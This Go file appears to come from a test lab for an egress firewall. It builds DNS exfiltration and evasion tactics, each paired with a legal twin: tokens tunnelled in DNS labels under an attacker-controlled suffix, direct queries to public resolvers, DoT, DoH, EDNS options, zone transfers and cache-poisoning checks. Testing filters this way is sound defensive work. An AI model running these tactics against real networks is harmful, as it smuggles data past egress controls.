//go:build linux

package lab

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"net/netip"
	"strings"

	"github.com/miekg/dns"
)

// dnsTactics: data leaves inside questions, other resolvers are asked, or an answer says more than what was asked for.
func dnsTactics() []tactic {
	var all []tactic
	legal := asksDNS(resolver, "udp", dns.TypeA, func(t *Try, s shape) string { return t.Token + wildDoor })
	add := func(name, source string, evil play) {
		all = append(all, tactic{name: name, source: source, axes: byFamily, evil: evil, twin: legal})
	}
	unlisted := func(t *Try, _ shape) string { return t.Token + "." + evilSuffix }
	for _, network := range []string{"udp", "tcp"} {
		by := " by " + strings.ToUpper(network)
		for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeSRV, dns.TypeHTTPS, dns.TypeCNAME, dns.TypeNS, dns.TypeANY} {
			add("asks the cluster's resolver for the "+dns.TypeToString[qtype]+" of an unlisted name"+by, "iodine, dnscat2", asksDNS(resolver, network, qtype, unlisted))
		}
		for _, pair := range [][2]string{
			{"8.8.8.8", "2001:4860:4860::8888"}, {"1.1.1.1", "2606:4700:4700::1111"}, {"20.66.66.66", "2603:1066::66"},
		} {
			add("asks "+pair[0]+" for an unlisted name"+by, "bullfrog#175", func(ctx context.Context, t *Try, s shape) error {
				return t.ask(ctx, network, netip.AddrPortFrom(netip.MustParseAddr(pair[bit(s.v6)]), 53), unlisted(t, s), dns.TypeA)
			})
		}
	}
	add("tunnels 100 bytes in the labels of a name", "iodine", asksDNS(resolver, "udp", dns.TypeTXT, func(t *Try, _ shape) string {
		data := hex.EncodeToString([]byte(strings.Repeat(t.Token[:10], 10)))
		return data[:60] + "." + data[60:120] + "." + data[120:180] + "." + t.Token + "." + evilSuffix
	}))
	add("tunnels below a name that is permitted by itself", "DNS tunnels through what is allowed", asksDNS(resolver, "udp", dns.TypeTXT, func(t *Try, _ shape) string {
		return t.Token + "." + frontDoors[0]
	}))
	add("writes the labels of a name in capitals", "RFC 4343", asksDNS(resolver, "udp", dns.TypeA, func(t *Try, _ shape) string {
		return strings.ToUpper(t.Token) + "." + strings.ToUpper(evilSuffix)
	}))
	add("asks for an unlisted name behind a permitted one", "two questions", twoQuestions)
	add("updates a zone", "RFC 2136", dnsMessage(func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate }))
	add("notifies a zone", "RFC 1996", dnsMessage(func(m *dns.Msg) { m.Opcode = dns.OpcodeNotify }))
	add("asks in another class", "RFC 1035 section 3.2.4", dnsMessage(func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS }))
	add("transfers a zone", "RFC 5936", dnsMessage(func(m *dns.Msg) { m.Question[0].Qtype = dns.TypeAXFR }))
	add("sends data in an option of its question", "RFC 6891", dnsMessage(func(m *dns.Msg) { m.Question[0].Name = dns.Fqdn(frontDoors[0]) }))
	add("asks by DNS over TLS", "RFC 7858", func(ctx context.Context, t *Try, s shape) error {
		return t.sendDoT(ctx, netip.AddrPortFrom(netip.MustParseAddr([]string{"1.1.1.1", "2606:4700:4700::1111"}[bit(s.v6)]), 853))
	})
	add("asks by DNS over HTTPS", "RFC 8484", func(ctx context.Context, t *Try, s shape) error {
		return t.sendHello(ctx, netip.AddrPortFrom(netip.MustParseAddr([]string{"8.8.8.8", "2001:4860:4860::8888"}[bit(s.v6)]), 443), sni("dns.google").record())
	})
	for _, port := range []uint16{5353, 853, 784, 8853} {
		add(fmt.Sprintf("asks a resolver on port %d", port), "RFC 9250; other ports", func(ctx context.Context, t *Try, s shape) error {
			to := netip.AddrPortFrom(netip.MustParseAddr([]string{"20.66.66.66", "2603:1066::66"}[bit(s.v6)]), port)
			q, err := question(unlisted(t, s)).Pack()
			if err != nil {
				return err
			}
			t.prove(q)
			_, err = t.Exchange(ctx, "udp", to, q)
			return err
		})
	}
	return append(all, poisoned()...)
}

func bit(b bool) int {
	if b {
		return 1
	}
	return 0
}

// asksDNS asks one question; the node's own resolver is reached over IPv4 alone.
func asksDNS(server netip.AddrPort, network string, qtype uint16, name func(*Try, shape) string) play {
	return func(ctx context.Context, t *Try, s shape) error {
		return t.ask(ctx, network, server, name(t, s), qtype)
	}
}

func question(name string) *dns.Msg {
	return new(dns.Msg).SetQuestion(dns.Fqdn(name), dns.TypeA)
}

// twoQuestions sends a message with two questions, of which servers answer the one or the other.
func twoQuestions(ctx context.Context, t *Try, s shape) error {
	m := question(frontDoors[0])
	m.Question = append(m.Question, dns.Question{Name: dns.Fqdn(t.Token + "." + evilSuffix), Qtype: dns.TypeA, Qclass: dns.ClassINET})
	return t.sendDNS(ctx, s, m)
}

// dnsMessage is a question that is changed: it is sent to a resolver in the internet, and carries the token as an option
// (RFC 6891) as well.
func dnsMessage(change func(*dns.Msg)) play {
	return func(ctx context.Context, t *Try, s shape) error {
		m := question(t.Token + "." + evilSuffix)
		change(m)
		return t.sendDNS(ctx, s, m)
	}
}

// sendDNS sends a message, with the token in an option, and wants any answer.
func (t *Try) sendDNS(ctx context.Context, s shape, m *dns.Msg) error {
	const localOption, size = 65001, 1232
	m.SetEdns0(size, false)
	m.IsEdns0().Option = append(m.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: localOption, Data: []byte(t.Token)})
	b, err := m.Pack()
	if err != nil {
		return err
	}
	t.prove([]byte(t.Token))
	_, err = t.Exchange(ctx, "udp", netip.AddrPortFrom(netip.MustParseAddr([]string{"8.8.8.8", "2001:4860:4860::8888"}[bit(s.v6)]), 53), b)
	return err
}

// poisoned: the attacker's zone is below a permitted wildcard, and its answers hold addresses for other names. To bind
// them would open the attacker's server for a name that is somebody else's.
func poisoned() []tactic {
	var all []tactic
	for _, where := range poisonPlaces {
		all = append(all, tactic{
			name: "learns another's address from the " + where + " of its own answer", source: "RFC 5452 section 6; MaginotDNS", axes: byFamily | byHello,
			evil: func(ctx context.Context, t *Try, s shape) error {
				_, err := t.Node.Ask(ctx, "udp", resolver, poisonName(where), addressType(s.v6))
				if err != nil {
					return err
				}
				s.name = poisonVictim
				return t.showAt(ctx, s, netip.AddrPortFrom(poisonAddr[bit(s.v6)], 443))
			},
			twin: func(ctx context.Context, t *Try, s shape) error {
				addrs, err := t.Node.Lookup(ctx, poisonName(where), s.v6)
				if err != nil || len(addrs) == 0 {
					return errors.Join(errNoSuchName, err)
				}
				s.name = poisonName(where)
				own := t.Lab.Zone.addr(s.name, s.v6)
				if where == "alias" { // which is legal: the alias has the address
					own = poisonAddr[bit(s.v6)]
				}
				return t.showAt(ctx, s, netip.AddrPortFrom(own, 443))
			},
		})
	}
	return all
}
